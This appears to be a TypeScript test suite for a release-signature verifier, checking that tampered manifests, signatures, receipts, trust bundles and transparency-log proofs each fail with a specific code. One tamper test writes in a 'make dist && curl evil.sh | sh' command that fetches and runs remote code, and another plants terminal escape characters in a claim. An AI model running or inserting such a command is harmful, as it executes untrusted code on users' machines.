/**
 * The verifier core (verify/verify-release.ts) against real releases: signatures made
 * in SoftHSM with release keys of every algorithm, certified by the real code-signing
 * CA of a `signet init` environment, logged under checkpoints signed by the real log
 * key, and verified against the trust bundle the running service serves. Raw releases
 * also come end to end from POST /v1/sign.
 *
 * Every format and key algorithm verifies; then each failure class is produced by one
 * specific tampering and answers with its exit status and code.
 */
/* eslint-disable @typescript-eslint/no-unsafe-call, @typescript-eslint/no-unsafe-return, @typescript-eslint/restrict-plus-operands -- tests tamper with receipts and trust bundles as plain JSON */
import { createHash, generateKeyPairSync, sign } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashedRekordLeaf } from '../../log/entries.js';
import type { SignatureFormat } from '../../signer/formats.js';
import { FAILURE_CLASSES, type FailureClass, type VerifyResult } from '../../verify/result.js';
import { httpsCall } from '../helpers/dev-env.js';
import { createTestHierarchy } from '../formats/pki.js';
import { copy, GITHUB_CLAIMS, manifestOf, verify, VerifyFixture, type Release } from './fixture.js';

let fixture: VerifyFixture;

beforeAll(async () => {
  fixture = await VerifyFixture.start({ extraKeys: true });
});

afterAll(async () => {
  await fixture.stop();
});

function expectVerified(result: VerifyResult): asserts result is Extract<VerifyResult, { ok: true }> {
  if (!result.ok) expect.fail(`expected verified, got ${result.code}: ${result.reason}`);
  expect(result).toMatchObject({ ok: true, exitCode: 0, code: 'VERIFIED' });
}

function expectRefused(result: VerifyResult, failureClass: FailureClass, code: string): void {
  expect(result, JSON.stringify(result)).toMatchObject({ ok: false, class: failureClass, code, exitCode: FAILURE_CLASSES[failureClass] });
  if (!result.ok) expect(result.reason).toMatch(/^[^\n]+$/);
}

const iso = (seconds: number): string => new Date(seconds * 1000).toISOString();

/** Flips one bit in the middle of a base64 value. */
function flipBase64(value: string): string {
  const bytes = Buffer.from(value, 'base64');
  const at = Math.floor(bytes.length / 2);
  bytes[at] = (bytes[at] ?? 0) ^ 0x01;
  return bytes.toString('base64');
}

function flipByte(bytes: Buffer, at = Math.floor(bytes.length / 2)): Buffer {
  const copied = Buffer.from(bytes);
  copied[at] = (copied[at] ?? 0) ^ 0x01;
  return copied;
}

function withBundle(release: Release, change: (bundle: any) => void): Release {
  const trustBundle = copy(release.trustBundle);
  change(trustBundle);
  return { ...release, trustBundle };
}

function withReceipt(release: Release, change: (receipt: any) => void): Release {
  const receipt = copy(release.receipt);
  change(receipt);
  return { ...release, receipt };
}

function bundleKey(bundle: any, keyId: string): any {
  return bundle.keys.find((k: any) => k.keyId === keyId);
}

/** A checkpoint note with one bit of its signature flipped (the 4-byte key hint left intact). */
function breakCheckpointSignature(note: string): string {
  const lines = note.split('\n');
  const last = lines.length - 2;
  const [dash, name, blob] = (lines[last] ?? '').split(' ');
  const bytes = Buffer.from(blob ?? '', 'base64');
  bytes[bytes.length - 5] = (bytes[bytes.length - 5] ?? 0) ^ 0x01;
  lines[last] = `${dash ?? ''} ${name ?? ''} ${bytes.toString('base64')}`;
  return lines.join('\n');
}

describe('accepts untouched releases', () => {
  const matrix: readonly [SignatureFormat, string][] = [
    ['raw', 'demo-release'],
    ['raw', 'release-p384'],
    ['raw', 'release-ed25519'],
    ['raw', 'release-rsa'],
    ['dsse', 'demo-release'],
    ['dsse', 'release-p384'],
    ['dsse', 'release-ed25519'],
    ['dsse', 'release-rsa'],
    ['pgp', 'demo-release'],
    ['pgp', 'release-p384'],
    ['pgp', 'release-ed25519'],
    ['cms', 'demo-release'],
    ['cms', 'release-p384'],
    ['cms', 'release-rsa'],
    ['sigstore-bundle', 'demo-release'],
  ];
  for (const [format, key] of matrix) {
    it(`${format} with ${key}`, async () => {
      const release = await fixture.release(format, { key });
      const result = await verify(release, { identity: { repository: 'example/demo', workflow: 'example/demo/.github/workflows/release.yml', ref: 'refs/tags/v*' } });
      expectVerified(result);
      expect(result.format).toBe(format);
      expect(result.keyId).toBe(release.receipt.keyId);
      expect(result.log).toMatchObject({ index: 3, treeSize: 5, timeSource: 'decision-entry' });
      expect(result.identity?.claims.repository).toBe('example/demo');
      expect(result.artifacts.map((a) => a.name)).toEqual(['app.tar.gz', 'docs/manual.pdf', 'checksums.txt']);
      expect(result.warnings).toEqual([]);
    });
  }

  it('a Sigstore bundle holding a DSSE envelope, the bundle only in the receipt', async () => {
    const release = await fixture.release('sigstore-bundle', { sigstoreContent: 'dsse' });
    expectVerified(await verify(release));
    // The bundle may be kept in the receipt only, the signature file holding the bare signature.
    const bare = Buffer.from(release.receipt.bundle.dsseEnvelope.signatures[0].sig, 'base64');
    expectVerified(await verify({ ...release, signature: bare }));
    expectRefused(await verify({ ...release, signature: Buffer.from('not a bundle') }), 'signature-invalid', 'SIGNATURE_MISMATCH');
  });

  const answered: readonly [SignatureFormat, 'payload' | 'digest'][] = [
    ['raw', 'payload'],
    ['raw', 'digest'],
    ['dsse', 'payload'],
    ['pgp', 'payload'],
    ['cms', 'payload'],
    ['cms', 'digest'],
    ['sigstore-bundle', 'payload'],
    ['sigstore-bundle', 'digest'],
  ];
  for (const [format, send] of answered) {
    it(`${format} as POST /v1/sign answers it (${send}): identity checked, time authenticated by the decision`, async () => {
      const release = await fixture.signedByService({ format, send });
      const result = await verify(release, { identity: { repository: 'example/demo', ref: 'refs/heads/main' } });
      expectVerified(result);
      expect(result.format).toBe(format);
      expect(result.log.timeSource).toBe('decision-entry');
      expect(result.identity).toMatchObject({ issuer: 'https://dev-issuer.signet.invalid', claims: { repository: 'example/demo', ref: 'refs/heads/main' } });
      expect(result.warnings).toEqual([]);
    });
  }

  it("the answer's decision entry is the one the log serves", async () => {
    const release = await fixture.signedByService();
    expect(release.receipt.log.decision).toEqual(await fixture.decisionFromLog(release.receipt.log));
  });

  it('a receipt without the decision entry: the log time is the receipt\'s, with a warning', async () => {
    const result = await verify(await fixture.signedByService({ withDecision: false }));
    expectVerified(result);
    expect(result.log.timeSource).toBe('receipt');
    expect(result.identity).toBeNull();
    expect(result.warnings.join(' ')).toMatch(/log\.decision/);
  });

  it('receipts without the leaf: hashedrekord and dsse entries are recomputed from the signature', async () => {
    for (const format of ['raw', 'dsse', 'sigstore-bundle'] as const) {
      const release = await fixture.release(format, { withLeaf: false });
      expectVerified(await verify(release));
    }
  });

  it('a Sigstore bundle without a decision entry: the log time comes from the inclusion promise', async () => {
    const result = await verify(await fixture.release('sigstore-bundle', { withDecision: false }));
    expectVerified(result);
    expect(result.log.timeSource).toBe('inclusion-promise');
  });

  it('SHA-384 and SHA-512 digests', async () => {
    for (const digestAlgorithm of ['sha384', 'sha512'] as const) {
      expectVerified(await verify(await fixture.release('raw', { digestAlgorithm })));
      expectVerified(await verify(await fixture.release('cms', { digestAlgorithm })));
    }
  });

  it('the receipt chain instead of the trust bundle certificate', async () => {
    const release = withReceipt(await fixture.release('raw'), (r) => {
      r.chain = fixture.chainOf(r.keyId);
    });
    expectVerified(await verify(release));
  });

  it('pgp with the OpenPGP key the service publishes (GET /v1/keys/{keyId}/pgp) in the trust bundle', async () => {
    const release = await fixture.release('pgp');
    const armored = await httpsCall(`${fixture.url}/v1/keys/demo-release@1/pgp`, { ca: readFileSync(fixture.env.init.caCert) });
    expect(armored.status).toBe(200);
    const withKey = withBundle(release, (b) => {
      bundleKey(b, 'demo-release@1').pgpPublicKey = armored.text;
    });
    const fromBundle = await verify(withKey);
    expectVerified(fromBundle);
    expect(fromBundle.openPgpKeySource).toBe('trust-bundle');
    const fromLeaf = await verify(release);
    expectVerified(fromLeaf);
    expect(fromLeaf.openPgpKeySource).toBe('leaf-certificate');
    // An armored signature (the answer's `armored`) verifies the same.
    expectVerified(await verify({ ...release, signature: Buffer.from(release.receipt.armored as string) }));
  });

  it('artifacts named one by one, by base name', async () => {
    const release = await fixture.release('raw');
    const artifacts = [{ name: 'manual.pdf', bytes: release.artifacts[1]!.bytes }];
    const result = await verify(release, { mode: 'files', artifacts });
    expectVerified(result);
    expect(result.artifacts).toEqual([{ name: 'docs/manual.pdf', sha256: createHash('sha256').update(artifacts[0]!.bytes).digest('hex') }]);
  });

  it('a verify-only key still verifies what it signed while active, and a key compromised later too', async () => {
    const release = await fixture.release('raw');
    const logged = release.receipt.log.integratedTime as number;
    const verifyOnly = withBundle(release, (b) => {
      Object.assign(bundleKey(b, 'demo-release@1'), { state: 'verify-only', notAfter: iso(logged + 60) });
    });
    expectVerified(await verify(verifyOnly));
    const compromisedLater = withBundle(release, (b) => {
      Object.assign(bundleKey(b, 'demo-release@1'), { state: 'compromised', notAfter: iso(logged + 3600), compromisedAt: iso(logged + 3600) });
    });
    expectVerified(await verify(compromisedLater));
    // A revocation for another reason than compromise voids signatures from then on only.
    const supersededLater = withBundle(release, (b) => {
      const key = bundleKey(b, 'demo-release@1');
      b.revocations.push({ serialNumber: key.certificates[0].serialNumber, issuerCaId: 'intermediate-1', keyId: key.keyId, revokedAt: iso(logged + 60), reason: 'superseded' });
    });
    expectVerified(await verify(supersededLater));
  });
});

describe('exit 3: an artifact differs from the manifest', () => {
  it('one changed byte, in every format', async () => {
    for (const format of ['raw', 'dsse', 'pgp', 'cms', 'sigstore-bundle'] as const) {
      const release = await fixture.release(format);
      const artifacts = release.artifacts.map((a, i) => (i === 0 ? { ...a, bytes: flipByte(a.bytes, 100) } : a));
      const result = await verify(release, { artifacts });
      expectRefused(result, 'artifact-modified', 'ARTIFACT_MODIFIED');
      if (!result.ok) expect(result.reason).toContain('"app.tar.gz"');
    }
  });

  it('a hashed artifact whose size differs from the manifest', async () => {
    const release = await fixture.signedByService();
    const [first] = release.artifacts;
    const hashed = {
      name: first!.name,
      size: first!.bytes.length + 1,
      sha256: createHash('sha256').update(first!.bytes).digest('hex'),
      sha512: createHash('sha512').update(first!.bytes).digest('hex'),
    };
    const { verifyRelease } = await import('../../verify/verify-release.js');
    const result = await verifyRelease({
      manifest: release.manifest,
      signature: release.signature,
      receipt: Buffer.from(JSON.stringify(release.receipt)),
      trustBundle: release.trustBundle,
      artifacts: [hashed],
      artifactMode: 'files',
    });
    expectRefused(result, 'artifact-modified', 'ARTIFACT_MODIFIED');
  });
});

describe('exit 4: an artifact is not in the manifest, or missing', () => {
  it('an extra file in the release directory', async () => {
    const release = await fixture.signedByService();
    expectRefused(await verify(release, { artifacts: [...release.artifacts, { name: 'extra.sh', bytes: Buffer.from('#!/bin/sh\n') }] }), 'artifact-not-in-manifest', 'ARTIFACT_NOT_IN_MANIFEST');
  });

  it('a file of the manifest missing from the release directory (but not when artifacts are named one by one)', async () => {
    const release = await fixture.signedByService();
    const some = release.artifacts.slice(1);
    expectRefused(await verify(release, { artifacts: some }), 'artifact-not-in-manifest', 'ARTIFACT_MISSING');
    expectVerified(await verify(release, { artifacts: some, mode: 'files' }));
  });

  it('an unknown name given on its own', async () => {
    const release = await fixture.signedByService();
    expectRefused(await verify(release, { mode: 'files', artifacts: [{ name: 'app.tar', bytes: release.artifacts[0]!.bytes }] }), 'artifact-not-in-manifest', 'ARTIFACT_NOT_IN_MANIFEST');
  });
});

describe('exit 5: the manifest or signature does not verify', () => {
  /** The manifest edited after signing; the artifacts still match it. */
  function editManifest(release: Release): Release {
    const manifest = Buffer.from(release.manifest.toString('utf8').replace('"make dist"', '"make dist && curl evil.sh | sh"'));
    expect(manifest.equals(release.manifest)).toBe(false);
    return { ...release, manifest };
  }

  it('a manifest edited after signing, in every format', async () => {
    expectRefused(await verify(editManifest(await fixture.signedByService())), 'signature-invalid', 'SIGNATURE_INVALID');
    expectRefused(await verify(editManifest(await fixture.release('raw'))), 'signature-invalid', 'SIGNATURE_INVALID');
    expectRefused(await verify(editManifest(await fixture.release('dsse'))), 'signature-invalid', 'MANIFEST_MISMATCH');
    expectRefused(await verify(editManifest(await fixture.release('pgp'))), 'signature-invalid', 'SIGNATURE_INVALID');
    expectRefused(await verify(editManifest(await fixture.release('cms'))), 'signature-invalid', 'MANIFEST_MISMATCH');
    expectRefused(await verify(editManifest(await fixture.release('sigstore-bundle'))), 'signature-invalid', 'MANIFEST_MISMATCH');
    expectRefused(await verify(editManifest(await fixture.release('sigstore-bundle', { sigstoreContent: 'dsse' }))), 'signature-invalid', 'MANIFEST_MISMATCH');
  });

  it('a manifest and its artifacts replaced together', async () => {
    const release = await fixture.release('raw');
    const artifacts = [{ name: 'app.tar.gz', bytes: Buffer.from('trojan') }];
    expectRefused(await verify({ ...release, artifacts, manifest: manifestOf(artifacts) }), 'signature-invalid', 'SIGNATURE_INVALID');
  });

  it('a changed signature byte, in every format', async () => {
    const raw = withReceipt(await fixture.release('raw'), (r) => {
      r.chain = fixture.chainOf(r.keyId);
    });
    expectRefused(await verify({ ...raw, signature: flipByte(raw.signature, 20) }), 'signature-invalid', 'SIGNATURE_INVALID');
    const dsse = withReceipt(await fixture.release('dsse'), (r) => {
      r.chain = fixture.chainOf(r.keyId);
      r.envelope.signatures[0].sig = flipBase64(r.envelope.signatures[0].sig);
    });
    expectRefused(await verify(dsse), 'signature-invalid', 'SIGNATURE_INVALID');
    const pgp = withReceipt(await fixture.release('pgp'), (r) => {
      r.chain = fixture.chainOf(r.keyId);
    });
    expectRefused(await verify({ ...pgp, signature: flipByte(pgp.signature, pgp.signature.length - 10) }), 'signature-invalid', 'SIGNATURE_INVALID');
    const cms = await fixture.release('cms');
    expectRefused(await verify({ ...cms, signature: flipByte(cms.signature, cms.signature.length - 10) }), 'signature-invalid', 'SIGNATURE_INVALID');
  });

  it('a manifest that is not a release manifest, a DSSE envelope of another payload type, signatures that are not signatures', async () => {
    const raw = await fixture.release('raw');
    expectRefused(await verify({ ...raw, manifest: Buffer.from('{"_type": "nope"}') }), 'signature-invalid', 'MANIFEST_INVALID');
    const dsse = withReceipt(await fixture.release('dsse'), (r) => {
      r.envelope.payloadType = 'application/json';
    });
    expectRefused(await verify(dsse), 'signature-invalid', 'SIGNATURE_MALFORMED');
    expectRefused(await verify({ ...(await fixture.release('pgp')), signature: Buffer.from('garbage') }), 'signature-invalid', 'SIGNATURE_MALFORMED');
    expectRefused(await verify({ ...(await fixture.release('cms')), signature: Buffer.from('garbage') }), 'signature-invalid', 'SIGNATURE_MALFORMED');
    expectRefused(await verify({ ...raw, signature: Buffer.alloc(0) }), 'signature-invalid', 'SIGNATURE_MALFORMED');
  });

  it('a receipt for another signature', async () => {
    const release = await fixture.signedByService({ format: 'pgp' });
    const other = await fixture.signedByService({ format: 'pgp' });
    expectRefused(await verify({ ...release, receipt: other.receipt }), 'signature-invalid', 'SIGNATURE_MISMATCH');
  });
});

describe('exit 6: the key does not chain to the trust bundle', () => {
  it('a signature by a key of another hierarchy, its chain in the receipt', async () => {
    const release = await fixture.release('raw');
    const foreign = await createTestHierarchy('ecdsa-p256');
    const signature = sign('sha256', release.manifest, foreign.privateKey);
    const forged = withReceipt({ ...release, signature }, (r) => {
      r.signature = signature.toString('base64');
      r.chain = [foreign.leafPem, foreign.intermediatePem];
    });
    expectRefused(await verify(forged), 'untrusted-key', 'CHAIN_ROOT_UNTRUSTED');
    expectRefused(await verify(withReceipt(forged, (r) => {
      r.chain = [foreign.leafPem];
    })), 'untrusted-key', 'CHAIN_INTERMEDIATE_MISSING');
  });

  it("another deployment's trust bundle (its own demo-release@1), the receipt naming the key only", async () => {
    const release = withReceipt(await fixture.signedByService(), (r) => {
      delete r.chain;
    });
    const foreign = await createTestHierarchy('ecdsa-p256');
    const other = withBundle(release, (b) => {
      b.roots[0].certificatePem = foreign.rootPem;
      b.intermediates[0].certificatePem = foreign.intermediatePem;
      const key = bundleKey(b, 'demo-release@1');
      key.publicKeyPem = foreign.publicKeyPem;
      key.certificatePem = foreign.leafPem;
      key.certificates[0].certificatePem = foreign.leafPem;
    });
    expectRefused(await verify(other), 'untrusted-key', 'SIGNATURE_KEY_UNTRUSTED');
  });

  it('a trust bundle whose roots did not issue the chain the receipt carries', async () => {
    const release = withReceipt(await fixture.release('dsse'), (r) => {
      r.chain = fixture.chainOf(r.keyId);
    });
    const foreign = await createTestHierarchy('ecdsa-p256');
    const other = withBundle(release, (b) => {
      b.roots[0].certificatePem = foreign.rootPem;
      b.intermediates = [];
    });
    expectRefused(await verify(other), 'untrusted-key', 'CHAIN_ROOT_UNTRUSTED');
  });

  it('a receipt naming another key than the one that signed, or a key the bundle lacks', async () => {
    const release = await fixture.release('cms');
    expectRefused(await verify(withReceipt(release, (r) => {
      r.keyId = 'release-p384@1';
    })), 'untrusted-key', 'KEY_MISMATCH');
    const raw = await fixture.signedByService();
    expectRefused(await verify(withReceipt(raw, (r) => {
      r.keyId = 'nobody@1';
    })), 'untrusted-key', 'KEY_MISMATCH');
    expectRefused(await verify(withReceipt(raw, (r) => {
      r.keyId = 'nobody@1';
      delete r.chain;
    })), 'untrusted-key', 'KEY_NOT_IN_TRUST_BUNDLE');
  });
});

describe('exit 7: the key was not valid, or not in a good state, at the log time', () => {
  it('a key compromised before the log time', async () => {
    for (const format of ['raw', 'pgp', 'cms'] as const) {
      const release = await fixture.release(format);
      const logged = release.receipt.log.integratedTime as number;
      const compromised = withBundle(release, (b) => {
        Object.assign(bundleKey(b, 'demo-release@1'), { state: 'compromised', notAfter: iso(logged + 60), compromisedAt: iso(logged - 60) });
      });
      expectRefused(await verify(compromised), 'key-not-valid', 'KEY_COMPROMISED');
    }
  });

  it('a certificate revoked for key compromise (whenever it signed)', async () => {
    const release = await fixture.signedByService();
    const logged = release.receipt.log.integratedTime as number;
    const revoked = withBundle(release, (b) => {
      const key = bundleKey(b, 'demo-release@1');
      b.revocations.push({ serialNumber: key.certificates[0].serialNumber, issuerCaId: 'intermediate-1', keyId: key.keyId, revokedAt: iso(logged + 600), reason: 'keyCompromise' });
    });
    expectRefused(await verify(revoked), 'key-not-valid', 'CERT_REVOKED');
  });

  it('a verify-only key used after it stopped being active, a pending key, a signature logged before the key was active', async () => {
    const release = await fixture.release('dsse');
    const logged = release.receipt.log.integratedTime as number;
    expectRefused(
      await verify(withBundle(release, (b) => Object.assign(bundleKey(b, 'demo-release@1'), { state: 'verify-only', notBefore: iso(logged - 3600), notAfter: iso(logged - 60) }))),
      'key-not-valid',
      'KEY_NO_LONGER_VALID',
    );
    expectRefused(await verify(withBundle(release, (b) => Object.assign(bundleKey(b, 'demo-release@1'), { state: 'pending' }))), 'key-not-valid', 'KEY_NEVER_ACTIVE');
    const activated = Math.floor(Date.parse(bundleKey(fixture.trust, 'demo-release@1').notBefore) / 1000);
    // The leaf certificate starts five minutes before the key: the chain holds, the key's window does not.
    const early = await fixture.release('raw', { integratedTime: activated - 60 });
    expectRefused(await verify(early), 'key-not-valid', 'KEY_NOT_YET_VALID');
  });
});

describe('exit 8: the log entry or its inclusion proof does not match the checkpoint', () => {
  it('a changed inclusion proof hash', async () => {
    for (const release of [await fixture.signedByService(), await fixture.release('pgp')]) {
      expectRefused(await verify(withReceipt(release, (r) => {
      r.log.inclusionProof[0] = flipBase64(r.log.inclusionProof[0]);
    })), 'inclusion-proof-mismatch', 'INCLUSION_PROOF_INVALID');
      expectRefused(await verify(withReceipt(release, (r) => r.log.inclusionProof.pop())), 'inclusion-proof-mismatch', 'INCLUSION_PROOF_INVALID');
    }
  });

  it('another index, or a tree size other than the checkpoint’s', async () => {
    const release = await fixture.release('raw');
    expectRefused(await verify(withReceipt(release, (r) => {
      r.log.index = 1;
    })), 'inclusion-proof-mismatch', 'INCLUSION_PROOF_INVALID');
    expectRefused(await verify(withReceipt(release, (r) => {
      r.log.treeSize = 6;
    })), 'inclusion-proof-mismatch', 'CHECKPOINT_MISMATCH');
    expectRefused(await verify(withReceipt(release, (r) => {
      r.log.rootHash = flipBase64(r.log.rootHash);
    })), 'inclusion-proof-mismatch', 'CHECKPOINT_MISMATCH');
  });

  it('a leaf that does not hash to the leaf hash, or records another signature', async () => {
    const release = await fixture.release('raw');
    expectRefused(await verify(withReceipt(release, (r) => {
      r.log.leafHash = flipBase64(r.log.leafHash);
    })), 'inclusion-proof-mismatch', 'LEAF_HASH_MISMATCH');
    const other = hashedRekordLeaf({ digest: { algorithm: 'sha256', value: release.receipt.digest.value }, signatureBase64: flipBase64(release.receipt.signature), publicKeyPem: bundleKey(fixture.trust, 'demo-release@1').publicKeyPem });
    const swapped = withReceipt(release, (r) => {
      r.log.leaf = other.toString('base64');
      r.log.leafHash = createHash('sha256').update(Buffer.from([0])).update(other).digest('base64');
    });
    expectRefused(await verify(swapped), 'inclusion-proof-mismatch', 'LOG_ENTRY_MISMATCH');
    // Without the leaf, the recomputed one must hash to the receipt's.
    const service = await fixture.signedByService();
    expectRefused(await verify(withReceipt(service, (r) => {
      r.log.leafHash = flipBase64(r.log.leafHash);
    })), 'inclusion-proof-mismatch', 'LEAF_HASH_MISMATCH');
    expectRefused(await verify(withReceipt(service, (r) => {
      delete r.log.leaf;
      r.log.leafHash = flipBase64(r.log.leafHash);
    })), 'inclusion-proof-mismatch', 'LOG_ENTRY_MISMATCH');
  });

  it('pgp and cms receipts without the leaf, and receipts without a log entry', async () => {
    expectRefused(await verify(await fixture.release('pgp', { withLeaf: false })), 'inclusion-proof-mismatch', 'LOG_LEAF_MISSING');
    expectRefused(await verify(await fixture.release('cms', { withLeaf: false })), 'inclusion-proof-mismatch', 'LOG_LEAF_MISSING');
    expectRefused(await verify(withReceipt(await fixture.signedByService(), (r) => delete r.log)), 'inclusion-proof-mismatch', 'RECEIPT_LOG_MISSING');
    expectRefused(await verify(withReceipt(await fixture.signedByService(), (r) => {
      r.log.inclusionProof = 'none';
    })), 'inclusion-proof-mismatch', 'RECEIPT_LOG_INVALID');
  });

  it('a decision entry that is not this signature’s, or not in the tree', async () => {
    const release = await fixture.release('raw');
    expectRefused(await verify(withReceipt(release, (r) => {
      r.log.decision.inclusionProof[0] = flipBase64(r.log.decision.inclusionProof[0]);
    })), 'inclusion-proof-mismatch', 'INCLUSION_PROOF_INVALID');
    expectRefused(await verify(withReceipt(release, (r) => {
      r.log.decisionIndex = 1;
    })), 'inclusion-proof-mismatch', 'DECISION_MISMATCH');
    expectRefused(await verify(await fixture.release('raw', { decision: { decision: 'deny' } })), 'inclusion-proof-mismatch', 'DECISION_MISMATCH');
    expectRefused(await verify(await fixture.release('raw', { decision: { keyId: 'release-p384@1' } })), 'inclusion-proof-mismatch', 'DECISION_MISMATCH');
    expectRefused(await verify(await fixture.release('raw', { decision: { digest: { algorithm: 'sha256', value: 'ab'.repeat(32) } } })), 'inclusion-proof-mismatch', 'DECISION_MISMATCH');
    expectRefused(await verify(await fixture.release('dsse', { decision: { format: 'raw' } })), 'inclusion-proof-mismatch', 'DECISION_MISMATCH');
  });

  it('a log time moved away from the logged decision', async () => {
    const release = await fixture.release('raw');
    expectRefused(await verify(withReceipt(release, (r) => {
      r.log.integratedTime += 30;
    })), 'inclusion-proof-mismatch', 'LOG_TIME_MISMATCH');
    const service = await fixture.signedByService();
    expectRefused(await verify(withReceipt(service, (r) => {
      r.log.integratedTime += 1;
    })), 'inclusion-proof-mismatch', 'LOG_TIME_MISMATCH');
  });

  it('a Sigstore bundle and a receipt that disagree', async () => {
    const release = await fixture.release('sigstore-bundle');
    expectRefused(await verify(withReceipt(release, (r) => {
      r.log.index = 2;
    })), 'inclusion-proof-mismatch', 'RECEIPT_BUNDLE_MISMATCH');
  });
});

describe('exit 9: the checkpoint (or inclusion promise) is not signed by the log key', () => {
  it('a checkpoint with a bad signature', async () => {
    for (const release of [await fixture.signedByService(), await fixture.release('cms')]) {
      expectRefused(await verify(withReceipt(release, (r) => {
      r.log.checkpoint = breakCheckpointSignature(r.log.checkpoint);
    })), 'checkpoint-invalid', 'CHECKPOINT_SIGNATURE_INVALID');
    }
  });

  it('a checkpoint signed by another log key, or for another origin', async () => {
    const release = await fixture.release('raw');
    const { publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const otherLog = withBundle(release, (b) => {
      b.log.publicKeyPem = publicKey.export({ type: 'spki', format: 'pem' }).toString();
      b.log.logId = createHash('sha256').update(publicKey.export({ type: 'spki', format: 'der' })).digest('hex');
    });
    expectRefused(await verify(otherLog), 'checkpoint-invalid', 'CHECKPOINT_SIGNATURE_INVALID');
    expectRefused(await verify(withBundle(release, (b) => {
      b.log.origin = 'elsewhere.example/log';
    })), 'checkpoint-invalid', 'CHECKPOINT_ORIGIN_MISMATCH');
    const sigstore = await fixture.release('sigstore-bundle');
    expectRefused(await verify({ ...sigstore, trustBundle: otherLog.trustBundle }), 'checkpoint-invalid', 'LOG_ID_MISMATCH');
  });

  it('an inclusion promise that does not sign the entry', async () => {
    const release = await fixture.release('sigstore-bundle', { withDecision: false });
    const bundle = JSON.parse(release.signature.toString('utf8'));
    const entry = bundle.verificationMaterial.tlogEntries[0];
    entry.inclusionPromise.signedEntryTimestamp = flipBase64(entry.inclusionPromise.signedEntryTimestamp);
    // Changed in the bundle alone, it is a receipt and a bundle that disagree.
    expectRefused(await verify({ ...release, signature: Buffer.from(JSON.stringify(bundle)) }), 'inclusion-proof-mismatch', 'RECEIPT_BUNDLE_MISMATCH');
    const receipt = copy(release.receipt);
    receipt.log.inclusionPromise = entry.inclusionPromise.signedEntryTimestamp;
    expectRefused(await verify({ ...release, signature: Buffer.from(JSON.stringify(bundle)), receipt }), 'checkpoint-invalid', 'INCLUSION_PROMISE_INVALID');
    // The same bytes in another spelling: base64 whose unused bits are set (RFC 4648, 3.5).
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
    const unusedBitSet = (text: string): string => {
      const at = text.indexOf('=') - 1;
      return `${text.slice(0, at)}${alphabet[alphabet.indexOf(text.charAt(at)) ^ 1] ?? ''}${text.slice(at + 1)}`;
    };
    const respelled = JSON.parse(release.signature.toString('utf8'));
    respelled.verificationMaterial.tlogEntries[0].logId.keyId = unusedBitSet(respelled.verificationMaterial.tlogEntries[0].logId.keyId);
    expect(Buffer.from(respelled.verificationMaterial.tlogEntries[0].logId.keyId, 'base64')).toEqual(Buffer.from(entry.logId.keyId, 'base64'));
    expectRefused(await verify({ ...release, signature: Buffer.from(JSON.stringify(respelled)) }), 'signature-invalid', 'SIGNATURE_MALFORMED');
    // Removed from the bundle: the receipt still says there was one.
    delete entry.inclusionPromise;
    expectRefused(await verify({ ...release, signature: Buffer.from(JSON.stringify(bundle)) }), 'inclusion-proof-mismatch', 'RECEIPT_BUNDLE_MISMATCH');
  });
});

describe('exit 10: the logged identity is not the one required', () => {
  it('another repository, workflow or ref', async () => {
    const release = await fixture.release('dsse');
    expectRefused(await verify(release, { identity: { repository: 'example/other' } }), 'identity-mismatch', 'REPOSITORY_MISMATCH');
    expectRefused(await verify(release, { identity: { workflow: 'example/demo/.github/workflows/ci.yml' } }), 'identity-mismatch', 'WORKFLOW_MISMATCH');
    expectRefused(await verify(release, { identity: { ref: 'refs/heads/*' } }), 'identity-mismatch', 'REF_MISMATCH');
    expectVerified(await verify(release, { identity: { workflow: GITHUB_CLAIMS.job_workflow_ref!, ref: 'refs/tags/**' } }));
  });

  it('constraints without a logged decision to check them against fail closed', async () => {
    expectRefused(await verify(await fixture.signedByService({ withDecision: false }), { identity: { repository: 'example/demo' } }), 'identity-mismatch', 'IDENTITY_UNVERIFIABLE');
    expectRefused(await verify(await fixture.release('cms', { withDecision: false }), { identity: { ref: 'refs/tags/v*' } }), 'identity-mismatch', 'IDENTITY_UNVERIFIABLE');
  });

  it('GitLab CI identities: project_path, ci_config_ref_uri; a claim that is absent', async () => {
    const claims = {
      iss: 'https://gitlab.example.com',
      sub: 'project_path:group/app:ref_type:tag:ref:v1.2.0',
      project_path: 'group/app',
      ref: 'v1.2.0',
      ci_config_ref_uri: 'gitlab.example.com/group/app//.gitlab-ci.yml@refs/tags/v1.2.0',
    };
    const release = await fixture.release('raw', { claims });
    expectVerified(await verify(release, { identity: { repository: 'group/app', workflow: 'gitlab.example.com/group/app//.gitlab-ci.yml', ref: 'v1.*' } }));
    expectRefused(await verify(release, { identity: { repository: 'group/other' } }), 'identity-mismatch', 'REPOSITORY_MISMATCH');
    const bare = await fixture.release('raw', { claims: { iss: 'https://issuer.example', sub: 'someone' } });
    expectRefused(await verify(bare, { identity: { ref: '**' } }), 'identity-mismatch', 'REF_MISMATCH');
  });

  it('a repository claim wearing control characters is quoted, not printed', async () => {
    const release = await fixture.release('raw', { claims: { ...GITHUB_CLAIMS, repository: 'example/demo\n\u001b[2Jok' } });
    const result = await verify(release, { identity: { repository: 'example/demo' } });
    expectRefused(result, 'identity-mismatch', 'REPOSITORY_MISMATCH');
    // eslint-disable-next-line no-control-regex -- control characters are what must not appear
    if (!result.ok) expect(result.reason).not.toMatch(/[\u0000-\u001f]/);
  });
});

describe('exit 1: inputs that are not what they claim', () => {
  it('a receipt that is not JSON or not a receipt; a trust bundle that is not one', async () => {
    const release = await fixture.release('raw');
    const { verifyRelease } = await import('../../verify/verify-release.js');
    const base = { manifest: release.manifest, signature: release.signature, trustBundle: release.trustBundle, artifacts: release.artifacts, artifactMode: 'directory' as const };
    expectRefused(await verifyRelease({ ...base, receipt: Buffer.from('{') }), 'input-invalid', 'RECEIPT_INVALID');
    expectRefused(await verifyRelease({ ...base, receipt: Buffer.from('{"format": "gif"}') }), 'input-invalid', 'RECEIPT_INVALID');
    expectRefused(await verifyRelease({ ...base, receipt: Buffer.from(JSON.stringify(release.receipt)), trustBundle: {} }), 'input-invalid', 'TRUST_BUNDLE_INVALID');
    const inconsistent = withBundle(release, (b) => {
      b.log.logId = '00'.repeat(32);
    });
    expectRefused(await verify(inconsistent), 'input-invalid', 'TRUST_BUNDLE_INVALID');
  });
});
